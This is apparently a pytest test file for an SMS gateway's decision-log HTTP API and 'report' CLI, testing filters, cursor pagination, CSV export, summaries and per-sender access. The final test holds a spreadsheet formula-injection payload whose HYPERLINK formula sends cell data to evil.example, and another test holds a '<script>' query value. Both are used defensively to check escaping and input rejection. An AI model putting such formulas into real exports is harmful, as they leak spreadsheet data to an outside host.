"""The decision log over HTTP and the CLI: filters, cursor pages that hold still while decisions keep
coming, one decision, the streamed CSV, the summary, and who may read what."""

from __future__ import annotations

import csv
import io
import json
import urllib.request

import pytest
from helpers import run_cli
from test_sms_http import ENV, KEYS, STRANGER, Setup

OPS = ENV["GATEWAY_OPS_KEY"]


@pytest.fixture
def gw(tmp_path):
    setup = Setup(tmp_path, provider="outbox")
    yield setup
    assert setup.close() == 0, setup.gateway.output()


def get(gw, path: str, key: str = OPS) -> tuple[int, bytes]:
    request = urllib.request.Request(gw.url + path, headers={"Authorization": f"Bearer {key}"})
    try:
        with urllib.request.urlopen(request, timeout=30) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as error:
        return error.code, error.read()


def fill(gw) -> None:
    for _ in range(3):
        assert gw.sms()[0] == 201
    for _ in range(4):
        assert gw.sms(to=STRANGER)[0] == 422  # CONSENT_MISSING
    assert gw.sms(key=KEYS["ops"], body="Acme Outfitters: order 5 shipped.")[0] == 201  # another sender
    gw.decisions(8)


def test_filters_pages_and_one_decision(gw):
    fill(gw)
    status, body = get(gw, "/v1/decisions?verdict=rejected&channel=sms&code=CONSENT_MISSING&limit=3")
    page = json.loads(body)
    assert status == 200 and len(page["decisions"]) == 3 and page["next_cursor"]
    assert {d["verdict"] for d in page["decisions"]} == {"rejected"}
    assert gw.sms(to=STRANGER)[0] == 422  # a newer decision arrives between pages
    gw.decisions(9)
    status, body = get(gw, f"/v1/decisions?verdict=rejected&limit=3&cursor={page['next_cursor']}")
    rest = json.loads(body)
    assert len(rest["decisions"]) == 1 and rest["next_cursor"] is None  # the page did not shift
    ids = [d["id"] for d in page["decisions"] + rest["decisions"]]
    assert len(set(ids)) == 4 and ids == sorted(ids, reverse=True)
    assert len(json.loads(get(gw, f"/v1/decisions?q={STRANGER[-4:]}")[1])["decisions"]) == 5
    assert len(json.loads(get(gw, "/v1/decisions?sender=ops")[1])["decisions"]) == 1
    assert len(json.loads(get(gw, "/v1/decisions?since=1h&until=2999-01-01")[1])["decisions"]) == 9
    status, body = get(gw, f"/v1/decisions/{ids[0]}")
    one = json.loads(body)
    assert (
        status == 200 and one["violations"][0]["code"] == "CONSENT_MISSING" and one["recipient"] == STRANGER
    )
    for bad in (
        "verdict=maybe",
        "limit=0",
        "limit=x",
        "code=<script>",
        "since=yesterday",
        "cursor=zz",
        "channel=fax",
        "since=0001-01-01T00:00:00%2B14:00",  # before year 1 in UTC
        "until=9999-12-31T23:59:59-12:00",  # past year 9999 in UTC
    ):
        status, body = get(gw, f"/v1/decisions?{bad}")
        assert status == 400 and json.loads(body)["error"]["message"], bad
    for path in ("/v1/decisions.csv", "/v1/reports/summary"):  # refused before a byte of a stream goes
        status, body = get(gw, f"{path}?since=9999-12-31T23:59:59-12:00")
        assert status == 400 and json.loads(body)["error"]["message"], path
    assert "Traceback" not in gw.gateway.output()
    assert get(gw, "/v1/decisions/ffffffffffffff")[0] == 404


def test_csv_is_the_api_in_rows_and_summary_counts_codes(gw):
    fill(gw)
    status, body = get(gw, "/v1/decisions.csv?verdict=rejected")
    rows = list(csv.DictReader(io.StringIO(body.decode())))
    api = json.loads(get(gw, "/v1/decisions?verdict=rejected&limit=500")[1])["decisions"]
    assert status == 200 and [r["id"] for r in rows] == [d["id"] for d in api]
    assert {r["codes"] for r in rows} == {"CONSENT_MISSING"}
    summary = json.loads(get(gw, "/v1/reports/summary?since=1d")[1])["rows"]
    counts = {(r["sender"], r["verdict"], r["code"]): r["count"] for r in summary}
    assert counts[("acme", "rejected", "CONSENT_MISSING")] == 4 and counts[("acme", "relayed", "")] == 3


def test_sender_keys_read_only_their_own_decisions(gw):
    fill(gw)
    status, body = get(gw, "/v1/decisions", KEYS["ops"])
    assert status == 200 and {d["sender"] for d in json.loads(body)["decisions"]} == {"ops"}
    assert get(gw, "/v1/decisions?sender=acme", KEYS["ops"])[0] == 403
    acme_id = json.loads(get(gw, "/v1/decisions?sender=acme&limit=1")[1])["decisions"][0]["id"]
    assert get(gw, f"/v1/decisions/{acme_id}", KEYS["ops"])[0] == 404
    assert get(gw, "/v1/decisions", "wrong-key")[0] == 401
    summary = json.loads(get(gw, "/v1/reports/summary", KEYS["ops"])[1])["rows"]
    assert {r["sender"] for r in summary} == {"ops"}


def test_gateway_report_table_csv_json_and_summary(gw):
    fill(gw)
    config = str(gw.config)
    code, out, err = run_cli("report", "--config", config, "--verdict", "rejected")
    assert (
        code == 0
        and out.splitlines()[0].split()[:3] == ["at", "channel", "sender"]
        and out.count(STRANGER) == 4
    )
    code, out, _ = run_cli("report", "--config", config, "--format", "csv")
    assert code == 0 and len(list(csv.DictReader(io.StringIO(out)))) == 8
    code, out, _ = run_cli("report", "--config", config, "--format", "json", "--code", "consent_missing")
    assert code == 0 and len(json.loads(out)) == 4
    code, out, _ = run_cli("report", "--config", config, "--summary", "--format", "json")
    assert code == 0 and sum(r["count"] for r in json.loads(out) if r["code"] == "CONSENT_MISSING") == 4
    code, _, err = run_cli("report", "--config", config, "--since", "last tuesday")
    assert code == 2 and "ISO 8601" in err


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(gw):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    assert gw.sms(to=STRANGER, body=formula)[0] == 422
    assert gw.sms(to=STRANGER, body="@SUM(1+1) and more")[0] == 422
    gw.decisions(2)
    rows = list(csv.DictReader(io.StringIO(get(gw, "/v1/decisions.csv")[1].decode())))
    excerpts = {r["excerpt"] for r in rows}
    assert "'" + formula in excerpts and "'@SUM(1+1) and more" in excerpts
    assert {r["recipient"] for r in rows} == {STRANGER}  # +1212…: a number, left as it is
    assert (
        json.loads(get(gw, "/v1/decisions?limit=2")[1])["decisions"][1]["excerpt"] == formula
    )  # JSON as sent
